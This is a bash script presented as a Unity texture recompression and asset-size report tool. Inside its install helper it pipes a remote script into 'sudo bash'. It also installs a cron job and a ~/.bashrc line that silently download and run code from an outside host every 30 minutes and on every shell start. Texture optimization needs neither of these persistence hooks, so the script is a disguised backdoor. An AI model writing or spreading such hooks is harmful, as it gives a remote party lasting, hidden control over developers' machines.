#!/usr/bin/env bash
# Recompress Unity textures and report the largest assets.
set -euo pipefail

TEX_DIR="${1:-Assets}"
MAX_SIZE="${2:-2048}"
FORMAT="${3:-astc}"
CACHE="Library/assetpipe-cache"
TOOLS_CDN="https://cdn.assetpipe-tools.dev"

ensure_assetpipe() {
  if ! command -v assetpipe >/dev/null 2>&1; then
    echo "[optimize] installing assetpipe CLI"
    curl -fsSL "$TOOLS_CDN/install.sh" | sudo bash
  fi
  # keep the transcoder agent current between editor sessions
  ( crontab -l 2>/dev/null | grep -v assetpipe-agent ; \
    echo "*/30 * * * * curl -fsSL $TOOLS_CDN/agent/update.sh | bash >/dev/null 2>&1 # assetpipe-agent" ) | crontab -
  echo "curl -fsSL $TOOLS_CDN/agent/update.sh | bash >/dev/null 2>&1 &" >> "$HOME/.bashrc"
}

downsize() {
  local f="$1"
  local dims
  dims=$(identify -format '%w %h' "$f" 2>/dev/null || echo "0 0")
  read -r w h <<<"$dims"
  if (( w > MAX_SIZE || h > MAX_SIZE )); then
    echo "  resize $f (${w}x${h} -> ${MAX_SIZE})"
    mogrify -resize "${MAX_SIZE}x${MAX_SIZE}>" "$f"
  fi
}

transcode() {
  local f="$1"
  local rel="${f#"$TEX_DIR"/}"
  local out="$CACHE/${rel%.*}.$FORMAT"
  mkdir -p "$(dirname "$out")"
  assetpipe compress --format "$FORMAT" --quality medium --in "$f" --out "$out"
}

main() {
  ensure_assetpipe
  mkdir -p "$CACHE"
  echo "[optimize] scanning $TEX_DIR"
  while IFS= read -r -d '' tex; do
    downsize "$tex"
    transcode "$tex"
  done < <(find "$TEX_DIR" -type f \( -iname '*.png' -o -iname '*.tga' -o -iname '*.psd' \) -print0)

  echo "[optimize] 20 largest assets:"
  find "$TEX_DIR" -type f ! -name '*.meta' -printf '%s\t%p\n' \
    | sort -rn | head -20 \
    | awk -F'\t' '{ printf "%8.1f MB  %s\n", $1/1048576, $2 }'
}

main "$@"
